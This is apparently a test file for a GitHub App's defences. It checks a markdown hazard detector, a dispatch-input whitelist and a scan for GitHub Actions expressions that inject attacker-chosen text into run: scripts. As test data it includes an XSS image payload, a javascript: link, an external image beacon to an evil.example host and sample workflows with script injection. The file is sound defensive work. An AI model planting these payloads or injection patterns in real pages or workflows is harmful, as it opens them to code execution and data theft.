describe("the markdown checker finds what it is here for", () => {
  test("each hazard is found raw and not once escaped by the App's own functions", async () => {
    const { escapeText, inlineCode, table } = await import("../../src/core/markdown.js");
    const raw: Array<[string, string]> = [
      ["<img src=x onerror=alert(1)>", "raw"],
      ["[x](javascript:alert(1))", "link"],
      ["![x](https://evil.example/p.png)", "image"],
      ["hi @my-org/team", "mention"],
      ["see #123", "reference"],
      ["see my-org/x#1", "cross-repository"],
      ["go www.evil.example", "autolinked"],
      ["```", "fenced"],
      ["${{ secrets.X }}", "expression"],
      ["| a | b |\n| --- | --- |\n| x | y | z |", "cells"],
      ["| a | b |\n| --- | --- |\n| `x\\\\|y` | z |", "cells"],
      ["| a |\n| --- |\nnot a row", "pipe"],
      ["me@evil.example", "e-mail"],
    ];
    for (const [text, kind] of raw) expect(markdownHazards(text).join("\n"), text).toContain(kind);
    for (const c of CRAFTS) {
      expect(markdownHazards(escapeText(c)), c).toEqual([]);
      expect(markdownHazards(table(["a", "b"], [[c, c]])), c).toEqual([]);
    }
    // Code spans are inert; the App's markers and allowed mentions pass.
    expect(markdownHazards("`<img src=x>` and ``a ` @team #1``")).toEqual([]);
    const marker = `<!-- flibs:plan {"arches":["x86_64"],"building":["x86_64"]} -->`;
    expect(markdownHazards(`${marker}\n@member see #5`, { mentions: ["member"], refs: [5], markers: true })).toEqual([]);
    expect(markdownHazards(marker).join()).toContain("raw");
    expect(outsideCode("a `b` c")).toBe("a   c");
    expect(gfmCells("| a \\| b | c |")).toEqual([" a \\| b ", " c "]);
    expect(gfmCells("| a \\\\| b |")).toHaveLength(2);
    expect(inlineCode("x")).toBe("`x`");
  });
  test("the dispatch whitelist refuses crafted inputs", () => {
    const good = {
      sha: "a".repeat(40),
      arches: '["x86_64"]',
      build_id: `${"a".repeat(40)}.1`,
      pr: "3",
      scratch: "false",
      policy: GOOD_POLICY,
    };
    const req = (inputs: object) => ({ params: { workflow_id: "flibs.yml" }, body: { ref: "main", inputs } }) as unknown as GitHubRequest;
    expect(dispatchProblems(req(good))).toEqual([]);
    for (const c of CRAFTS.slice(0, 12)) {
      for (const k of Object.keys(good)) expect(dispatchProblems(req({ ...good, [k]: c })), `${k}=${c}`).not.toEqual([]);
      expect(dispatchProblems(req({ ...good, title: c }))).not.toEqual([]);
    }
  });
});

// ---- static: workflows ------------------------------------------------------------------------------------

const ROOT = join(import.meta.dirname, "../..");
type Yaml = Record<string, any>;

/** Every file the project ships that GitHub runs steps from. */
function shippedWorkflows(): string[] {
  const dir = (d: string) =>
    readdirSync(join(ROOT, d))
      .filter((f) => /\.ya?ml$/.test(f) && f !== "container.yaml")
      .map((f) => join(d, f));
  return [...dir(".github/workflows"), ...dir("workflows-templates"), "action/action.yml"];
}

/**
 * Every script GitHub runs from a workflow's text: `run:` in workflow jobs and a composite action's steps, and the
 * `script:` of actions/github-script (JavaScript, where an expanded expression is code just the same).
 */
export function runBlocks(doc: Yaml): Array<{ where: string; script: string }> {
  const out: Array<{ where: string; script: string }> = [];
  const steps = (where: string, list: unknown) => {
    for (const [i, step] of (Array.isArray(list) ? list : []).entries()) {
      if (!step || typeof step !== "object") continue;
      const st = step as Yaml;
      if ("run" in st) out.push({ where: `${where}.steps[${i}]`, script: String(st.run) });
      if (typeof st.uses === "string" && /^actions\/github-script@/.test(st.uses) && st.with?.script !== undefined)
        out.push({ where: `${where}.steps[${i}].with.script`, script: String(st.with.script) });
    }
  };
  for (const [id, job] of Object.entries<Yaml>(doc.jobs ?? {})) steps(`jobs.${id}`, job?.steps);
  steps("runs", doc.runs?.steps);
  return out;
}

/** Every `${{ }}` in a parsed workflow or action, with its YAML path and whether it stands inside a script. */
export function expressionSites(doc: unknown): Array<{ path: string; expr: string; inScript: boolean }> {
  const out: Array<{ path: string; expr: string; inScript: boolean }> = [];
  const walk = (v: unknown, path: string[], parent: Yaml | undefined) => {
    if (typeof v === "string") {
      const key = path.at(-1);
      const inScript =
        key === "run" ||
        (key === "script" && path.at(-2) === "with" && typeof parent?.uses === "string" && /^actions\/github-script@/.test(parent.uses));
      for (const m of v.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) out.push({ path: path.join("."), expr: m[1]!.trim(), inScript });
    } else if (Array.isArray(v)) v.forEach((x, i) => walk(x, [...path, String(i)], parent));
    else if (v && typeof v === "object") {
      const o = v as Yaml;
      for (const [k, x] of Object.entries(o)) walk(x, [...path, k], k === "with" ? o : path.at(-1) === "with" ? parent : o);
    }
  };
  walk(doc, [], undefined);
  return out;
}

/**
 * Expressions that read text an outsider can choose: anything from the event, inputs, branch names, and any
 * title/body/name/ref/message/label field however it is reached. Inside `run:` such text becomes shell.
 */
const TAINTED =
  /\b(?:github\.event\b|inputs\.|github\.head_ref\b|github\.ref_name\b|github\.ref\b|github\.base_ref\b|env\.|steps\.[\w-]+\.outputs\.|needs\.[\w-]+\.outputs\.|matrix\.|[\w.]*\.(?:title|body|name|ref|message|label|head_ref|default_branch|email|login)\b)/;

/** Problems of one `run:` script: any `${{ }}` that reads outsider text (and, stricter, any expression at all). */
export function runScriptProblems(script: string): string[] {
  const problems: string[] = [];
  for (const m of script.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
    const expr = m[1]!.trim();
    problems.push(
      TAINTED.test(expr) ? `reads outsider text: \${{ ${expr} }}` : `expands an expression: \${{ ${expr} }} (pass it through env:)`,
    );
  }
  return problems;
}

describe("workflows: outsider text never stands inside a run: script", () => {
  test("every run: block of every shipped workflow and of the action", async () => {
    const files = shippedWorkflows();
    expect(files.length).toBeGreaterThanOrEqual(5);
    let blocks = 0;
    const lost: string[] = [];
    for (const f of files) {
      const doc = parse(readFileSync(join(ROOT, f), "utf8")) as Yaml;
      for (const b of runBlocks(doc)) {
        blocks++;
        for (const p of runScriptProblems(b.script)) lost.push(`${f} ${b.where}: ${p}`);
      }
    }
    expect(blocks).toBeGreaterThan(0);
    const lostBlocks = new Set(lost.map((l) => l.split(": ")[0])).size;
    record({
      area: AREA,
      what: "run: blocks of shipped workflows and action.yml (no expression inside)",
      tried: blocks,
      held: blocks - lostBlocks,
      lost: lostBlocks,
    });
    expect(lost).toEqual([]);
  });

  test("every expression in the shipped files stands in env:, with: or another non-script key", () => {
    // Each `${{ }}` is a case: it holds when it is not inside a script (`run:`, github-script's `script:`).
    let tried = 0;
    const lost: string[] = [];
    for (const f of shippedWorkflows()) {
      for (const e of expressionSites(parse(readFileSync(join(ROOT, f), "utf8")))) {
        tried++;
        if (e.inScript) lost.push(`${f} ${e.path}: \${{ ${e.expr} }}`);
      }
    }
    expect(tried).toBeGreaterThan(20);
    record({
      area: AREA,
      what: "${{ }} sites in shipped workflows and action.yml (none inside a script)",
      tried,
      held: tried - lost.length,
      lost: lost.length,
    });
    expect(lost).toEqual([]);
    // And the walk does find one inside a script.
    const bad = parse(
      "jobs:\n  a:\n    env:\n      T: ${{ github.event.pull_request.title }}\n    steps:\n      - run: echo ${{ inputs.x }}\n",
    ) as Yaml;
    expect(expressionSites(bad).map((e) => e.inScript)).toEqual([false, true]);
  });

  test("the check finds tainted expressions, and finds the run: blocks of workflows and composite actions", () => {
    const wf = parse("jobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n      - run: echo ok\n") as Yaml;
    const action = parse("runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.digest }}\n      shell: bash\n") as Yaml;
    expect(runBlocks(wf)).toHaveLength(2);
    expect(runBlocks(action)).toHaveLength(1);
    const gs = parse(
      "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: core.info('${{ github.event.issue.title }}')\n",
    ) as Yaml;
    expect(runScriptProblems(runBlocks(gs)[0]!.script).join()).toContain("reads outsider text");
    for (const e of [
      "github.event.pull_request.title",
      "inputs.sha",
      "github.head_ref",
      "github.event.comment.body",
      "steps.x.outputs.name",
      "github.event.issue.title",
      "needs.prepare.outputs.arches",
    ]) {
      expect(runScriptProblems(`echo \${{ ${e} }}`).join(), e).toContain("reads outsider text");
    }
    expect(runScriptProblems("echo ${{ runner.os }}").join()).toContain("expands an expression");
    expect(runScriptProblems('echo "$TITLE"')).toEqual([]);
  });
});
